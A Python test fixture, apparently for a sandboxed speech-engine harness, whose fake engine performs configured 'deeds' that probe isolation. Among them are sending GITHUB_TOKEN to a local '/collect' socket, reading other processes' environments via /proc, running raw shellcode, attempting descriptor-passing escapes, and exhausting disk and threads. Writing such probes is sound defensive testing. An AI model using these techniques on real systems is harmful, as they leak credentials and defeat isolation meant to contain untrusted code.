"""An engine that runs inside a worker and does one deed, named by its model: while it loads, or at the text ``go``."""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import json
import os
import signal
import socket
import struct
import threading
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import numpy as np

from harness.core.engine import EngineInfo, Speech


class TinyEngine:
    def __init__(self) -> None:
        self._order: dict[str, Any] = {}

    def prepare(self, *, device: str, threads: int) -> None:
        pass

    def load(self, model: Path, *, device: str, threads: int) -> EngineInfo:
        self._order = json.loads((model / "deed.json").read_text("utf-8"))
        result = self._do() if self._order.get("when", "load") == "load" else "later"
        return EngineInfo(name="tiny", sample_rate=8000, versions={"result": result[:200]})

    def render(self, texts: Sequence[str], seeds: Sequence[int]) -> list[Speech]:
        samples = np.zeros(80, np.float32)
        if "go" in texts:
            result = self._do()
            if result.startswith("say "):
                spelled = [ord(letter) / 127 for letter in result.removeprefix("say ")]
                samples = np.asarray(spelled, np.float32)
        return [Speech(samples=samples, sample_rate=8000, frames=1, tokens=1) for _ in texts]

    def _do(self) -> str:
        try:
            return str(DEEDS[self._order["deed"]](*self._order.get("arguments", ())))
        except OSError as error:
            return f"{type(error).__name__} {error.errno}"


def connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=1) as sock:
        sock.sendall(b"POST /collect " + os.environ["GITHUB_TOKEN"].encode())
        return repr(sock.recv(1))


def call(path: str) -> str:
    """Speak to whoever listens at a socket in the file system."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(1)
        sock.connect(path)
        sock.sendall(b"hello")
        return repr(sock.recv(1))


def datagram(port: int) -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return sock.sendto(b"hello", ("127.0.0.1", port))


def threads() -> str:
    """What honest libraries do: threads, files below scratch, a look at the machine."""
    done: list[int] = []
    workers = [threading.Thread(target=done.append, args=(number,)) for number in range(8)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    cache = Path(os.environ["XDG_CACHE_HOME"]) / "numba" / "deep"
    cache.mkdir(parents=True)
    (cache / "a.tmp").write_bytes(b"x" * 1000)
    (cache / "a.tmp").rename(cache / "a.bin")
    (cache / "a.bin").chmod(0o600)
    (cache / "a.bin").unlink()
    for path in ("/proc/self/maps", "/proc/cpuinfo", "/proc/self/status", "/dev/urandom"):
        with Path(path).open("rb") as file:
            file.read(16)
    with contextlib.suppress(OSError):
        os.sched_setaffinity(0, os.sched_getaffinity(0))
    a, b = socket.socketpair()
    a.sendall(b"x")
    b.recv(1)
    return str(len(done))


def foreign() -> None:
    """getpid through the 32-bit door: ``mov eax, 20; int 0x80; ret``."""
    import mmap

    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()


def system_call(number: int, *arguments: int) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *map(ctypes.c_long, arguments))
    return f"{result} {ctypes.get_errno()}"


def lock(path: str, way: str) -> str:
    """Lock a file that can be read, and keep it locked."""
    number = os.open(path, os.O_RDONLY)
    if way == "flock":
        fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)
    elif way == "notify":
        fcntl.fcntl(os.open(Path(path).parent, os.O_RDONLY), fcntl.F_NOTIFY, fcntl.DN_ACCESS)
    elif way == "lease":
        fcntl.fcntl(number, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    else:
        command = {"record": fcntl.F_SETLK, "asked": fcntl.F_GETLK, "description": fcntl.F_OFD_SETLK}[way]
        fcntl.fcntl(number, command, struct.pack("hhqqi4x", fcntl.F_RDLCK, os.SEEK_SET, 0, 0, 0))
    return "locked"


def own_locks() -> str:
    """What honest libraries do to keep their caches whole."""
    with (Path(os.environ["XDG_CACHE_HOME"]) / "own.lock").open("w") as file:
        for ask in (fcntl.LOCK_EX, fcntl.LOCK_UN, fcntl.LOCK_SH | fcntl.LOCK_NB):
            fcntl.flock(file, ask)
            fcntl.lockf(file, ask)
    return "fine"


def refusal(path: str) -> str:
    try:
        return str(Path(path).read_bytes())
    except OSError as error:
        return str(error.errno)


def undecodable() -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    return f"{libc.open(ctypes.c_void_p(16), 0)} {ctypes.get_errno()}"


def many_threads(count: int) -> int:
    def wait() -> None:
        time.sleep(30)

    started = 0
    threading.stack_size(1 << 16)
    with contextlib.suppress(RuntimeError):
        for _ in range(count):
            threading.Thread(target=wait, daemon=True).start()
            started += 1
    time.sleep(30)
    return started


def escape() -> str:
    """Bind a socket address by ``sendmsg`` on every open file, in case one is a way out."""
    found = []
    for entry in Path("/proc/self/fd").iterdir():
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(int(entry.name))) as sock:
            sock.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", 1))])
            found.append(entry.name)
    return ",".join(found)


def environment_with(ending: str) -> str:
    """Variables whose values end like this, of this process or of whoever's can be read."""
    found = [name for name, value in os.environ.items() if value.endswith(ending)]
    for process in ("self", str(os.getppid()), "1"):
        with contextlib.suppress(OSError):
            lines = Path(f"/proc/{process}/environ").read_bytes().split(b"\0")
            found += [f"{process}: {line.decode()}" for line in lines if line.endswith(ending.encode())]
    return f"{len(found)} found {' '.join(found)}".strip()


DEEDS: dict[str, Any] = {
    "environment": environment_with,
    "nothing": lambda: "nothing",
    "threads": threads,
    "connect": connect,
    "call": call,
    "datagram": datagram,
    "read": lambda path: Path(path).read_bytes(),
    "write": lambda path: Path(path).write_text("x"),
    "unlink": os.unlink,
    "symlink": os.symlink,
    "home": lambda name: Path(name).expanduser().read_text("utf-8"),
    "unlink-home": lambda name: Path(name).expanduser().unlink(),
    "variable": lambda name: os.environ[name],
    "say": lambda name: "say " + os.environ[name],
    "print": lambda name: print(os.environ[name].encode().hex(), flush=True),
    "exec": lambda path: os.execv(path, [path, "--version"]),
    "spawn": lambda path: os.posix_spawn(path, [path], {}),
    "tell": lambda path: "say " + Path(path).read_text("utf-8"),
    "lock": lock,
    "own-locks": own_locks,
    "fork": os.fork,
    "kill": os.kill,
    "kill-self": lambda: os.kill(os.getpid(), signal.SIGTERM),
    "foreign": foreign,
    "syscall": system_call,
    "syscalls": lambda numbers: ",".join(system_call(number, 0, 0, 0) for number in numbers),
    "reads": lambda paths: ",".join(map(refusal, paths)),
    "undecodable": undecodable,
    "many-threads": many_threads,
    "escape": escape,
    "fill": lambda size: (Path(os.environ["TMPDIR"]) / "big").write_bytes(b"x" * size),
    "ids": lambda folder: f"{os.getuid()} {Path(folder).exists()}",
}
